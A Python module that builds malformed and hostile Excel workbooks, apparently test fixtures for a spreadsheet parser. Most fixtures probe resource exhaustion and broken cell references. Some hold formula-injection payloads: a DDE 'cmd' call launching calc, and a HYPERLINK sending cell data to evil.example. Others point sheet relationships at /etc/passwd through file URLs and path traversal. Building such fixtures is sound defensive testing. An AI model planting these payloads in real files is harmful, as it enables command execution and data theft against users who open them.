"""Hostile sheets of Excel."""

from archive import parts_zip
from packed import pack
from parts import SHEET, XML, relationships, workbook, xlsx, xlsx_frame
from registry import PASSWD, PHRASE, SECRET, hostile


def text_cell(place, text=PHRASE):
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def row(number, cells):
    return f'<row r="{number}">{cells}</row>'


def rows_of(*pieces):
    """A sheet of packed rows."""
    head, tail = xlsx_frame()
    return parts_zip(xlsx() | {"xl/worksheets/sheet1.xml": pack(head, *pieces, tail)})


@hostile("last_cell.xlsx", "F9", "any")
def last_cell():
    """A single cell in the last row and column, XFD1048576."""
    return parts_zip(xlsx(row(1048576, text_cell("XFD1048576")), dimension="XFD1048576"))


@hostile("first_and_last_cell.xlsx", "F9", "any")
def first_and_last_cell():
    """Two cells, A1 and XFD1048576: 17 billion in between."""
    return parts_zip(xlsx(row(1, text_cell("A1")) + row(1048576, text_cell("XFD1048576")), dimension="A1:XFD1048576"))


@hostile("dimension_lie.xlsx", "F9", "ready", text=PHRASE)
def dimension_lie():
    """One cell in a sheet that says it reaches to XFD1048576."""
    return parts_zip(xlsx(dimension="A1:XFD1048576"))


@hostile("dimension_garbage.xlsx", "F9", "any")
def dimension_garbage():
    """The sheet gives its size as what no size is."""
    return parts_zip(xlsx(dimension="A0:ZZZZZZZZZZ99999999999999999999"))


@hostile("dimension_zero.xlsx", "F9", "any")
def dimension_zero():
    """The sheet says that it begins in row 0, as some programs write."""
    return parts_zip(xlsx(dimension="A0:B48943"))


@hostile("dimension_backwards.xlsx", "F9", "any")
def dimension_backwards():
    """The sheet says that it ends before it begins."""
    return parts_zip(xlsx(dimension="XFD1048576:A1"))


@hostile("empty_rows.xlsx", "F9", "any")
def empty_rows():
    """1,048,576 rows, of which only the first has a cell."""
    return rows_of(row(1, text_cell("A1")).encode(), (b"<row/>" * 1024, 1024))


@hostile("empty_cells.xlsx", "F9", "any")
def empty_cells():
    """16,777,216 empty cells after one with a text."""
    return rows_of(row(1, text_cell("A1")).encode(), (b"<row>" + b"<c/>" * 16384 + b"</row>", 1024))


@hostile("diagonal.xlsx", "F9", "any")
def diagonal():
    """10,000 cells, each one row and one column further than the last."""
    cells = (row(number, text_cell(f"{column(number)}{number}", number)) for number in range(1, 10_001))
    return parts_zip(xlsx(row(1, text_cell("A1")) + "".join(cells)))


def column(number):
    """The letters of a column."""
    letters = ""
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


@hostile("places_garbage.xlsx", "F9", "any")
def places_garbage():
    """Cells whose places are no places: without a row, without a column, beyond all bounds, negative."""
    places = ("A", "1", "A0", "A-1", "ZZZZZZZZ1", "A99999999999999999999", "", "\u0661\u0662", "A1:B2", "$A$1", "XFE1")
    cells = "".join(text_cell(place, "x") for place in places)
    return parts_zip(xlsx(row(1, text_cell("A1") + cells) + row(-1, cells) + row(4294967296, cells)))


@hostile("places_backwards.xlsx", "F9", "any")
def places_backwards():
    """Rows and cells that come in reverse order, some of them twice."""
    rows = (row(number, text_cell(f"C{number}") + text_cell(f"A{number}") * 2) for number in (9, 5, 5, 1))
    return parts_zip(xlsx("".join(rows)))


@hostile("string_out_of_range.xlsx", "F9", "any")
def string_out_of_range():
    """Cells that name shared strings that do not exist, and one that does."""
    wrong = ("1", "4294967295", "4294967296", "-1", "99999999999999999999999", "x", "", "1e9", "0x0")
    cells = "".join(f'<c t="s"><v>{number}</v></c>' for number in ("0", *wrong))
    return parts_zip(xlsx(row(1, cells)))


@hostile("string_count_lie.xlsx", "F9", "any")
def string_count_lie():
    """One shared string in a list that says it has four billion."""
    strings = f'{XML}<sst xmlns="{SHEET}" count="4294967295" uniqueCount="4294967295"><si><t>{PHRASE}</t></si></sst>'
    return parts_zip(xlsx(strings=strings.replace(XML, "")))


@hostile("string_amplified.xlsx", "F9", "any")
def string_amplified():
    """One shared string of 1 MB in 100,000 cells: 100 GB of text."""
    head, tail = xlsx_frame()
    strings = f'{XML}<sst xmlns="{SHEET}"><si><t>{"a" * 1_000_000}</t></si></sst>'
    cells = b"<row>" + b'<c t="s"><v>0</v></c>' * 100 + b"</row>"
    sheet = pack(head, (cells * 10, 100), tail)
    return parts_zip(xlsx() | {"xl/sharedStrings.xml": strings, "xl/worksheets/sheet1.xml": sheet})


@hostile("merged_everything.xlsx", "F9", "any")
def merged_everything():
    """All 17 billion cells are merged, 1,000 times."""
    merged = '<mergeCell ref="A1:XFD1048576"/>' * 1000
    return parts_zip(xlsx(after=f'<mergeCells count="1000">{merged}</mergeCells>'))


@hostile("formulas.xlsx", "F15", "ready", text=PHRASE)
def formulas():
    """Formulas that would run a program or send data away, with values that look like formulas."""
    codes = ("cmd|'/C calc'!A0", "HYPERLINK(&quot;http://evil.example/&quot;&amp;A1)", "WEBSERVICE(A1)", "@SUM(1+1)")
    cells = "".join(f'<c r="{column(at)}2" t="str"><f>{code}</f><v>={code}</v></c>' for at, code in enumerate(codes, 1))
    return parts_zip(xlsx(row(1, text_cell("A1")) + row(2, cells)))


@hostile("deep_formula.xlsx", "F9", "any")
def deep_formula():
    """A formula with 1,000,000 nested brackets."""
    head, tail = b'<row r="2"><c r="A2"><f>', b"</f><v>1</v></c></row>"
    return rows_of(row(1, text_cell("A1")).encode(), head, (b"(" * 1000, 1000), b"1", (b")" * 1000, 1000), tail)


@hostile("shared_formula_everywhere.xlsx", "F9", "any")
def shared_formula_everywhere():
    """A shared formula that says it is in all 17 billion cells, and an array that does."""
    shared = '<c r="B1"><f t="shared" ref="A1:XFD1048576" si="4294967295">A1</f><v>1</v></c>'
    array = '<c r="C1"><f t="array" ref="A1:XFD1048576">A1:XFD1048576</f><v>1</v></c>'
    return parts_zip(xlsx(row(1, text_cell("A1") + shared + array)))


@hostile("numbers.xlsx", "F9", "any")
def numbers():
    """Numbers and dates that are none, or beyond all bounds."""
    values = ("1e308", "1e999", "-1e999", "NaN", "Infinity", "--5", "0x1F", "1" * 100_000, "", "-693594", "2958466")
    cells = "".join(f'<c><v>{value}</v></c><c t="d"><v>{value}</v></c><c s="1"><v>{value}</v></c>' for value in values)
    more = "".join(f'<c t="{kind}"><v>7</v></c>' for kind in ("b", "e", "n", "x", "", "str"))
    return parts_zip(xlsx(row(1, text_cell("A1")) + row(2, cells + more)))


@hostile("date_format.xlsx", "F9", "any")
def date_format():
    """A format of dates of 1 MB of quotes and brackets."""
    code = "[h]&quot;y\\[" * 80_000
    styles = (
        f'{XML}<styleSheet xmlns="{SHEET}"><numFmts count="1"><numFmt numFmtId="170" formatCode="{code}"/></numFmts>'
        '<cellXfs count="4294967295"><xf numFmtId="0"/><xf numFmtId="170"/></cellXfs></styleSheet>'
    )
    links = relationships(("worksheet", "worksheets/sheet1.xml"), ("styles", "styles.xml"))
    rows = row(1, text_cell("A1") + '<c r="B1" s="1"><v>99999999</v></c><c r="C1" s="4000000000"><v>1</v></c>')
    return parts_zip(xlsx(rows) | {"xl/styles.xml": styles, "xl/_rels/workbook.xml.rels": links})


@hostile("many_sheets.xlsx", "F9", "any")
def many_sheets():
    """A workbook of 20,000 sheets, all of them the same part."""
    links = relationships(*[("worksheet", "worksheets/sheet1.xml")] * 20_000)
    sheet = xlsx(row(1, text_cell("A1")))["xl/worksheets/sheet1.xml"]
    parts = {
        "xl/workbook.xml": workbook(20_000),
        "xl/_rels/workbook.xml.rels": links,
        "xl/worksheets/sheet1.xml": sheet,
    }
    return parts_zip(xlsx() | parts)


@hostile("sheet_is_workbook.xlsx", "F12", "any")
def sheet_is_workbook():
    """Its only sheet is the workbook itself, and its shared strings too."""
    links = relationships(("worksheet", "workbook.xml"), ("sharedStrings", "workbook.xml"))
    return parts_zip(xlsx() | {"xl/_rels/workbook.xml.rels": links})


@hostile("sheet_outside.xlsx", "F16", "any", absent=PASSWD)
def sheet_outside():
    """Its sheets are said to be outside: in a file, and at an address."""
    links = relationships(
        ("worksheet", "file:///etc/passwd", 'TargetMode="External"'),
        ("worksheet", "../../../../etc/passwd"),
        ("worksheet", "/etc/passwd"),
    )
    return parts_zip(xlsx() | {"xl/workbook.xml": workbook(3), "xl/_rels/workbook.xml.rels": links})


@hostile("hidden_sheet.xlsx", "F25", "any")
def hidden_sheet():
    """A sheet that is very hidden, with a name of 10,000 letters."""
    book = workbook(1).replace('name="S1"', f'name="{"S" * 10_000}" state="veryHidden"')
    return parts_zip(xlsx() | {"xl/workbook.xml": book})


@hostile("empty.xlsx", "F9", "failed")
def empty():
    """A workbook whose only sheet has no cells."""
    return parts_zip(xlsx(""))


@hostile("no_sheets.xlsx", "F9", "failed")
def no_sheets():
    """A workbook without sheets."""
    parts = xlsx() | {"xl/workbook.xml": workbook(0), "xl/_rels/workbook.xml.rels": relationships()}
    del parts["xl/worksheets/sheet1.xml"]
    return parts_zip(parts)


@hostile("connections.xlsx", "F10", "ready", text=PHRASE, absent=SECRET)
def connections():
    """A workbook with outside links and connections to databases."""
    link = f'{XML}<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc {SECRET}"/></externalLink>'
    more = {
        "xl/externalLinks/externalLink1.xml": link,
        "xl/connections.xml": f"<connections><c>{SECRET}</c></connections>",
    }
    return parts_zip(xlsx() | more)
